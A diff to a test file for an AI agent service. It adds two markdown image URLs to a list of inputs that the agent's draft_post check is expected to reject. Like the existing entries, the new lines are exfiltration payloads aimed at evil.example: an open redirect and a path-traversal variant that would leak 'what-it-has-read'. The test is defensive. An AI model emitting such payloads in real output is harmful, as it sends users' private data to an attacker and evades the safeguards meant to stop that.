@@ -540,6 +540,8 @@ describeApp("Agents", (service) => {
       "![x][1]\n\n[1]: //evil.example/x.png",
       '<img srcset="https://evil.example/x.png 2x">',
       '<img src="/\\\\evil.example/x.png">',
+      "![x](/bookmarks/page?url=https://evil.example/what-it-has-read)",
+      "![x](/media/../bookmarks/page?url=https://evil.example/what-it-has-read)",
       '<picture><source srcset="https://evil.example/y.png"><img alt="x" src="https://evil.example/x.png"></picture>',
     ])
       expect([content, await agent.fault("draft_post", write(content))]).toEqual([
